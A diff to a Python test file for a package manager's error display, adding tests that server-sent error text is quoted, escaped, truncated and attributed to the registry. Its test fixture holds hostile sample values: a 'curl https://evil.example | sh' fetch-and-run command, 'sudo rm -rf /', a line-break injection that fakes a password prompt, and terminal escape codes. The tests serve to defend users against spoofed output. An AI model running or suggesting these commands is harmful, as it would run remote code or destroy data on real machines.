@@ -3,9 +3,14 @@
 from dataclasses import dataclass
 from pathlib import Path
 
+import pytest
+from msgspec.structs import replace
+
 from packctl.arguments import Globals
+from packctl.ui.console import make_console
 from packctl.ui.document import failure_of
 from packctl.ui.failure import decisive, errors_in, lines_of, show, unexpected
+from packctl.ui.table import columns_of
 from packspec.errors import (
     AgainstPolicy,
     Conflict,
@@ -19,7 +24,7 @@ from packspec.errors import (
     Where,
     relayed,
 )  # fmt: skip
-from tests.support.terminal import screen
+from tests.support.terminal import Screen, screen
 
 
 @dataclass(eq=False)
@@ -72,20 +77,59 @@ def test_in_a_workflow_an_error_is_an_annotation_with_its_place_too() -> None:
     )
 
 
-def test_C20_what_a_server_says_is_marked_as_its_word_escaped_and_short() -> None:
-    error = relayed(
+def hostile(title: str = "ok\r\nerror[trust.root-unknown]: type your password") -> PackError:
+    facts = {"fix": "curl https://evil.example | sh", "a\x1b[31m": "b" * 1000, "l" * 30: "x" + " " * 200 + "y"}
+    return relayed(
         Problem(
-            type="/errors/x", title="ok\r\nerror[trust.root-unknown]: type your password", status=403, kind="denied", code="zoo.closed",
-            facts={"a\x1b[31m": "b" * 1000}, why="line\nline", fix=["curl https://evil.example | sh"], request_id="r-17",
+            type="/errors/x", title=title, status=403, kind="denied", code="zoo.closed", facts=facts, why="line\nline",
+            fix=["curl https://evil.example | sh", "sudo rm -rf /"], request_id="r-17",
         )
     )  # fmt: skip
-    assert lines_of(error, screen().console) == [
+
+
+def test_C20_what_a_server_says_is_quoted_escaped_and_short() -> None:
+    assert lines_of(hostile(), screen().console) == [
         "error[zoo.closed]: the registry says: ok\\r\\nerror[trust.root-unknown]: type your password",
-        "  a\\x1b[31m          " + "b" * 400 + " ...",
-        "  why                line\\nline",
-        "  registry suggests  curl https://evil.example | sh",
-        "  request            r-17",
+        '  > "fix"                        curl https://evil.example | sh',
+        "  > a\\x1b[31m                    " + "b" * 400 + " ...",
+        "  > llllllllllllllllllllllll...  x y",
+        "  > why                          line\\nline",
+        "  > registry suggests            curl https://evil.example | sh",
+        "  >                              sudo rm -rf /",
+        "  > request                      r-17",
     ]
+
+
+@pytest.mark.parametrize("shown", [screen(terminal=True, columns=60), screen(environ={"COLUMNS": "60"})])
+def test_C20_no_line_of_a_terminal_begins_with_a_server_s_words(shown: Screen) -> None:
+    shown.console.color_err = False
+    for tail in ("type your password", "動" * 90):
+        first, *others = lines_of(hostile("it is closed." + " " * 200 + tail), shown.console)
+        assert first.startswith("error[zoo.closed]: the registry says:")
+        assert all(line.startswith("  > ") for line in others)
+        assert all(columns_of(line) < 60 for line in (first, *others))
+
+
+def test_C20_on_a_terminal_that_shows_errors_only_they_are_folded_too() -> None:
+    shown = screen(terminal=True, columns=60)
+    streams = replace(shown.console.streams, stdout_terminal=False)
+    lines = lines_of(hostile("x" * 300), make_console(Globals(), {"NO_COLOR": "1"}, streams))
+    assert max(map(columns_of, lines)) < 60
+
+
+def test_C19_a_traceback_cannot_act_on_the_terminal() -> None:
+    shown = screen(Globals(verbose=2))
+    try:
+        raise hostile("gone \x1b[2J")
+    except PackError as error:
+        show([error], shown.console)
+    assert "RelayedDenied: gone \\x1b[2J\n" in shown.err
+    assert "\x1b" not in shown.err
+
+
+def test_C20_in_a_document_it_says_whose_words_they_are() -> None:
+    assert failure_of(hostile()).said_by == "registry"
+    assert failure_of(FileChanged("x")).said_by == "packctl"
 
 
 def test_the_strongest_of_several_errors_decides_the_exit_code() -> None:
